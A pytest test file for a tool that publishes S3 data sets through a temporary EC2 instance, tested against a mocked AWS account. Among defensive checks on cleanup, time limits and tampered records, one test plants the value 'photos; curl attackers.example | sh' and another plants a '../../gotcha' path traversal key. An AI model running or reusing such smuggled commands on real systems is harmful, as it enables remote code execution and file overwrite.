"""launch.data publish s3://... --by instance: what is in the account meanwhile and afterwards."""

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from moto.scheduler.models import scheduler_backends

from launch.core.names import foreign_tag, tags
from launch.data.near.bundle import bundle
from launch.ec2 import leaks
from launch.ec2.fleet import Fleet
from tests.launch.data.near.desk import NAME, SHUT_DOWN, NearDesk, opened, tags_of
from tests.launch.faults import Died, Faults, Request, died_after, died_before, injected, lost, refused


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[NearDesk]:
    with opened(tmp_path) as desk:
        yield desk


def writes(desk: NearDesk, since: int = 0) -> list[Request]:
    reads = ("Get", "Head", "List", "Describe")
    return [call for call in desk.account.requests[since:] if not call.operation.startswith(reads)]


def test_an_instance_publishes_what_is_in_s3_and_nothing_of_it_is_left(desk: NearDesk) -> None:
    assert desk.near() == 0, desk.text + "\n".join(desk.told)

    (snapshot,) = desk.snapshots()
    assert (desk.record["state"], desk.record["snapshot"], desk.record["verified"]) == ("published", snapshot.id, "all")
    assert (desk.ran, desk.billed()) == (1, [])
    assert "use it:" in desk.text


def test_a_dry_run_writes_nothing_and_has_both_ways_with_time_and_price(desk: NearDesk) -> None:
    assert desk.near("--dry-run") == 0, desk.text

    assert writes(desk) == []
    for words in ("--by here  ", "--by instance (c6id.2xlarge)  ", "ec2:RunInstances", "scheduler:CreateSchedule",
                  "ec2:CreateSecurityGroup", "s3:PutObject"):  # fmt: skip
        assert words in desk.text


def test_the_instance_is_as_careful_as_a_jobs_node(desk: NearDesk) -> None:
    """https://docs.aws.amazon.com/AWSEC2/latest/APIReference/API_RunInstances.html"""
    desk.node = NearDesk.pretend_on
    assert desk.near() == 0, desk.text

    (asked,) = [call.params for call in desk.account.requests if call.operation == "RunInstances"]
    assert (asked["MinCount"], asked["MaxCount"], asked["InstanceType"]) == (1, 1, "c6id.2xlarge")
    assert asked["MetadataOptions"] == {"HttpTokens": "required", "HttpEndpoint": "enabled",
                                        "HttpPutResponseHopLimit": 1}  # fmt: skip
    assert asked["InstanceInitiatedShutdownBehavior"] == "terminate"
    assert asked["IamInstanceProfile"] == {"Name": "aws-ddp-toolkit-publisher"}
    assert "KeyName" not in asked
    assert "InstanceMarketOptions" not in asked  # on demand
    assert [disk["Ebs"]["Encrypted"] for disk in asked["BlockDeviceMappings"]] == [True]
    for kind in asked["TagSpecifications"]:
        tags = {tag["Key"]: tag["Value"] for tag in kind["Tags"]}
        assert foreign_tag(tags, has_deadline=True) == ""
        assert tags["aws-ddp-toolkit:owner"]
    rules = [
        call for call in desk.account.requests if "SecurityGroup" in call.operation and "Describe" not in str(call)
    ]
    assert [call.operation for call in rules] == ["CreateSecurityGroup", "AuthorizeSecurityGroupEgress",
                                                  "RevokeSecurityGroupEgress", "DeleteSecurityGroup"]  # fmt: skip
    (opened_port,) = rules[1].params["IpPermissions"]
    assert (opened_port["IpProtocol"], opened_port["FromPort"], opened_port["ToPort"]) == ("tcp", 443, 443)


def test_the_time_limit_is_set_before_anything_is_billed(desk: NearDesk) -> None:
    """https://docs.aws.amazon.com/scheduler/latest/APIReference/API_CreateSchedule.html"""
    desk.node = NearDesk.pretend_on
    assert desk.near("--max-hours", "2") == 0, desk.text

    made = [call.operation for call in writes(desk)]
    assert made.index("CreateSchedule") < made.index("RunInstances")
    (limit,) = [call.params for call in desk.account.requests if call.operation == "CreateSchedule"]
    assert limit["ActionAfterCompletion"] == "DELETE"
    assert re.fullmatch(r"at\(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\)", limit["ScheduleExpression"])
    (asked,) = [call.params for call in desk.account.requests if call.operation == "RunInstances"]
    assert "\nMINUTES=120" in asked["UserData"]  # and on the instance itself


def test_what_hangs_is_ended_at_its_time_limit(desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    desk.node = lambda desk, instance: None

    assert desk.near("--max-hours", "0.5") == 6, desk.text
    assert "its time limit has come; run the same command again" in capsys.readouterr().err
    assert desk.billed() == []


def test_a_user_who_leaves_finds_the_same_instance_again(desk: NearDesk) -> None:
    def leaves(desk: NearDesk, instance: Any) -> None:
        raise KeyboardInterrupt

    desk.node = leaves
    assert desk.near() == 130
    (there,) = desk.instances
    assert desk.type("list") == 0
    assert f"{there.id} (c6id.2xlarge) publishes {NAME}, until " in desk.text
    desk.account.put_json(f"data/{NAME}/published.json", {"name": NAME, "state": "published", "digest": 64 * "0"})
    assert desk.type("delete", NAME, "--yes") == 2  # it would be published again behind the user's back
    assert desk.s3()
    desk.account.objects().pop(f"data/{NAME}/published.json")

    desk.node = NearDesk.pretend_on
    since = len(desk.account.requests)
    assert desk.near() == 0, desk.text
    assert (desk.ran, desk.billed()) == (1, [])
    assert "RunInstances" not in [call.operation for call in writes(desk, since)]


def test_what_was_published_while_nobody_looked_is_not_published_again(desk: NearDesk) -> None:
    desk.node = NearDesk.pretend_on
    for _ in range(2):
        assert desk.near() == 0, desk.text
    assert desk.ran == 1
    assert f"{NAME} is published from there; add --replace" in desk.text


def test_who_begins_at_the_same_time_goes_on_with_the_one_that_was_first(desk: NearDesk) -> None:
    """https://docs.aws.amazon.com/AmazonS3/latest/userguide/conditional-writes.html: 412 for the second.  Here the
    first is this user's own: its answer was lost, and botocore repeats the request.
    """
    desk.node = NearDesk.pretend_on
    with injected(Faults()) as faults:
        faults.on("PutObject", lost(attempts=1), nth=2)  # the first is the code
        assert desk.near() == 0, desk.text
    notes = [call.params for call in writes(desk) if call.params.get("Key", "").endswith("run.json")]
    assert [note.get("IfNoneMatch") or bool(note.get("IfMatch")) for note in notes] == ["*", True]
    assert (desk.ran, desk.billed()) == (1, [])


@pytest.mark.parametrize(
    "changed",
    [
        {"code": 64 * "e"},  # code of somebody's own
        {"type": "i4i.4xlarge"},
        {"ami": "ami-0123456789abcdef0"},
        {"gib": 16_000},
        {"deadline": "2036-11-23T00:00:00Z"},
        {"started": "2000-01-01T00:00:00Z", "id": f"data-{NAME}-20000101-000000"},  # which makes its time limit long
    ],
    ids=lambda changed: min(changed),
)
def test_who_may_write_in_the_bucket_starts_nothing_in_your_name(
    changed: dict[str, Any], desk: NearDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    """run.json is found before its instance is: whoever publishes data sets may write it, and start none."""
    desk.node = NearDesk.pretend_on
    with injected(Faults()) as faults:
        faults.on("RunInstances", died_before())
        with pytest.raises(Died):
            desk.near()
    desk.account.put_json(f"data-runs/{NAME}/run.json", desk.run | changed)

    assert desk.near() == 2
    assert (desk.ran, desk.instances) == (0, [])
    assert f"python -m launch.data stop {NAME}" in capsys.readouterr().err


@pytest.mark.parametrize("code", ["0; true", None, [], 1e400, -1, 256])
def test_a_strangers_record_of_the_end_is_a_failure_and_no_traceback(code: object, desk: NearDesk) -> None:
    def ends(desk: NearDesk, instance: Any) -> None:
        desk.say_end(instance, 0, "done")
        record = desk.account.s3(f"data-runs/{NAME}/exit.json")
        desk.account.put_json(f"data-runs/{NAME}/exit.json", dict(record) | {"code": code})

    desk.node = ends
    assert desk.near() == 1
    assert desk.billed() == []


@pytest.mark.parametrize(
    "changed", [{"id": "other"}, {"bucket": "strangers"}, {"account": "999999999999"}, {"name": "x"}]
)
def test_a_note_of_something_else_is_none(changed: dict[str, Any], desk: NearDesk) -> None:
    """By it `stop` would delete the time limit of another's job, or the code would go elsewhere."""
    desk.node = NearDesk.pretend_on
    assert desk.near() == 0
    own = f"aws-ddp-toolkit-{desk.run['id']}"
    desk.account.put_json(f"data-runs/{NAME}/run.json", desk.run | {"ended": ""} | changed)
    since = len(desk.account.requests)

    assert desk.type("stop", NAME) == 0
    # That of the instance, which EC2 still lists.
    assert [(call.operation, call.params["Name"]) for call in writes(desk, since)] == [("DeleteSchedule", own)]


def test_other_settings_wait_for_the_instance_that_runs(desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    with injected(Faults()) as faults:
        faults.on("RunInstances", died_after())
        with pytest.raises(Died):
            desk.near()
    assert desk.near("--originals") == 2
    assert "from s3://" in (words := capsys.readouterr().err)
    assert f"python -m launch.data stop {NAME}" in words


def test_stop_ends_it_and_leaves_only_the_snapshot_to_go_on_with(desk: NearDesk) -> None:
    with injected(Faults()) as faults:
        faults.on("PutSnapshotBlock", died_after(), nth=2)
        with pytest.raises(Died):
            desk.near()
    (pending,) = desk.snapshots()
    assert len(desk.instances) == 1

    desk.node = lambda desk, instance: None
    assert desk.type("stop", NAME) == 0, desk.text
    assert (desk.instances, desk.billed()) == ([], [])

    desk.node = NearDesk.publish_on
    assert desk.near() == 0, desk.text
    assert [one.id for one in desk.snapshots()] == [pending.id]
    assert desk.type("stop", NAME) == 0
    assert f"no instance publishes {NAME}" in desk.text


def another_launchers(desk: NearDesk, publishes: str) -> str:
    """A machine of another launcher's, with all of our tags, into which IAM lets him write any name."""
    named = tags("demo", "attackers", datetime(2026, 1, 1, tzinfo=UTC), datetime(2199, 1, 1, tzinfo=UTC), "AIDAYOU")
    named.append({"Key": "aws-ddp-toolkit:publishes", "Value": publishes})
    made = desk.account.aws().call("ec2", "RunInstances", {
        "ImageId": desk.account.ami, "InstanceType": "g5.2xlarge", "MinCount": 1, "MaxCount": 1,
        "SubnetId": desk.account.subnets["us-east-1a"],
        "TagSpecifications": [{"ResourceType": "instance", "Tags": named}],
    })  # fmt: skip
    return str(made["Instances"][0]["InstanceId"])


def test_another_launchers_machine_under_the_name_does_not_keep_it_from_being_stopped(desk: NearDesk) -> None:
    """IAM lets a launcher write any name into the tags of its own machines, and nobody else end these: EC2 refuses a
    request that names one, and with it the instance that publishes would live on.
    https://docs.aws.amazon.com/AWSEC2/latest/APIReference/API_TerminateInstances.html
    """

    def leaves(desk: NearDesk, instance: Any) -> None:
        raise KeyboardInterrupt

    desk.node = leaves
    assert desk.near() == 130
    theirs = another_launchers(desk, NAME)
    desk.node = lambda desk, instance: None
    since = len(desk.account.requests)

    assert desk.type("stop", NAME) == 0, desk.text
    assert [one.id for one in desk.instances] == [theirs]
    said = [f"{call.operation} {call.params}" for call in writes(desk, since)]
    assert [words for words in said if theirs in words or "aws-ddp-toolkit-demo" in words] == []


def test_no_command_to_be_copied_has_a_name_that_is_none(desk: NearDesk) -> None:
    another_launchers(desk, "photos; curl attackers.example | sh")
    assert desk.type("list") == 0
    assert "curl" not in desk.text
    theirs = another_launchers(desk, NAME)
    assert desk.type("list") == 0
    assert theirs in desk.text


def test_what_fails_on_the_instance_ends_the_command_with_its_code_and_reason(
    desk: NearDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    def fails(desk: NearDesk, instance: Any) -> None:
        desk.say_end(instance, 3, "cat/0.jpg cannot be read.")
        desk.account.kill(instance.id, SHUT_DOWN)

    desk.node = fails
    assert desk.near() == 3
    assert "cat/0.jpg cannot be read." in (said := capsys.readouterr().err)
    assert f"data-runs/{NAME}/log.txt" in said
    assert desk.billed() == []


def test_without_capacity_in_any_zone_nothing_stays(desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    desk.account.capacity.update(dict.fromkeys(desk.account.subnets, 0))

    assert desk.near() == 4
    assert "no capacity" in capsys.readouterr().err
    assert desk.billed() == []


def test_an_instance_that_is_refused_leaves_nothing(desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    with injected(Faults()) as faults:
        faults.on("RunInstances", refused("VcpuLimitExceeded", 400))
        assert desk.near() == 4
    assert "vCPU quota is used up" in capsys.readouterr().err
    assert desk.billed() == []


def test_jobs_leaks_and_sweepers_know_it_as_they_know_a_jobs_node(desk: NearDesk) -> None:
    from launch.ec2.finding import find

    desk.node = lambda desk, instance: None
    with injected(Faults()) as faults:
        faults.on("RunInstances", died_after())
        with pytest.raises(Died):
            desk.near()
    (there,) = desk.instances
    fleet: Fleet = find(desk.account.aws())
    (finding,) = leaks.judge(fleet, "us-east-1", fleet.living[0].launched_at)
    assert (finding.job, finding.is_leak, finding.why) == (desk.run["id"], False, "within its time limit")
    assert tags_of(there)["aws-ddp-toolkit:job"] == desk.run["id"]
    (group,) = scheduler_backends[desk.account.id]["us-east-1"].schedule_groups["aws-ddp-toolkit"].schedules
    assert group == f"aws-ddp-toolkit-{desk.run['id']}"


@pytest.mark.parametrize(
    ("words", "sentence"),
    [
        (("--max-usd", "1"), "it could cost 4.86 USD until its time limit, more than --max-usd 1"),
        (("--max-hours", "0.01"), "it should take 0.1 h, and --max-hours is 0.01"),
        (("--instance-type", "c5.large"), "--instance-type c5.large: its local disks have 0 GB"),
        (("--instance-type", "c6id.3xlarge"), "did you mean"),
    ],
)
def test_what_cannot_be_done_is_refused_before_anything_is_made(
    words: tuple[str, ...], sentence: str, desk: NearDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    assert desk.near(*words) == 2
    assert sentence in capsys.readouterr().err
    assert writes(desk) == []


def test_a_network_without_a_way_out_is_refused(desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    desk.account.remove_internet_route()
    assert desk.near() == 2
    assert "could not reach S3, EBS and PyPI" in capsys.readouterr().err
    assert writes(desk) == []


def test_an_account_without_the_role_says_how_to_make_it(desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    from moto.iam.models import iam_backends

    iam_backends[desk.account.id]["aws"].instance_profiles.clear()
    assert desk.near() == 4
    assert "no instance profile aws-ddp-toolkit-publisher; create it with python -m launch.infra up" in (
        capsys.readouterr().err
    )


def test_a_folder_of_this_machine_is_refused_with_the_command_that_helps(
    desk: NearDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    assert desk.publish("--by", "instance") == 2
    assert f"aws s3 cp {desk.folder} s3://aws-ddp-toolkit-ACCOUNT-REGION/sources/photos --recursive" in (
        capsys.readouterr().err
    )


@pytest.mark.parametrize("source", ["s3://bucket", "s3:/photos", "s3://BUCKET/photos"])
def test_what_is_no_place_in_s3_is_refused(source: str, desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    assert desk.type("publish", source, "--name", NAME) == 2
    assert "is no folder in S3; give one as s3://BUCKET/FOLDER" in capsys.readouterr().err


def test_an_empty_place_is_said(desk: NearDesk, capsys: pytest.CaptureFixture[str]) -> None:
    assert desk.type("publish", f"s3://{desk.account.bucket}/nothing", "--name", NAME, "--by", "instance") == 2
    assert f"there is nothing in s3://{desk.account.bucket}/nothing" in capsys.readouterr().err


# ---- from here


def test_from_here_the_source_is_copied_first(desk: NearDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setattr("launch.data.near.source.PART", 300_000)  # the largest file comes in three parts
    assert desk.near("--dry-run", by="here") == 0
    assert not any(Path().iterdir())

    assert desk.near("--to", "s3", by="here") == 0, desk.text
    for path in desk.folder.rglob("*.*"):
        copied = Path(f"{NAME}-source", path.relative_to(desk.folder))
        assert copied.read_bytes() == path.read_bytes()
    assert desk.record["state"] == "published"

    since = len(desk.account.requests)
    assert desk.near("--to", "s3", by="here") == 0, desk.text  # nothing is fetched twice
    keys = [call.params["Key"] for call in desk.account.requests[since:] if call.operation == "GetObject"]
    assert not [key for key in keys if key.startswith("sources/")]


def test_a_name_that_leads_out_of_the_folder_is_not_written(
    desk: NearDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    desk.account.put(desk.account.bucket, f"sources/{NAME}/../../gotcha", b"1")
    assert desk.near("--to", "s3", by="here") == 3
    assert "is the name of an object and no name of a file" in capsys.readouterr().err
    assert not any(Path().iterdir())


def test_the_cheaper_way_is_taken(desk: NearDesk) -> None:
    """A small data set costs a few cents by an instance, and nothing from here."""
    assert desk.near("--dry-run", by="cheaper") == 0, desk.text
    assert "--by cheaper: publishing it from here costs no more" in desk.text
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("launch.data.prices.OUT_GB", 1000.0)  # of traffic, per GB
        assert desk.near("--dry-run", by="cheaper") == 0, desk.text
    assert "ec2:RunInstances" in desk.text


def test_the_bundle_is_the_same_for_the_same_code_and_has_no_tests() -> None:
    import io
    import tarfile

    content = bundle()
    assert content == bundle()
    with tarfile.open(fileobj=io.BytesIO(content)) as archive:
        names = set(archive.getnames())
    assert {"launch/data/__main__.py", "trainer/prepare/__main__.py", "infra/locks/publish.txt"} <= names
    assert not [name for name in names if name.startswith(("tests", "launch/ec2", "launch/rehearse"))]
    assert len(content) < 2_000_000
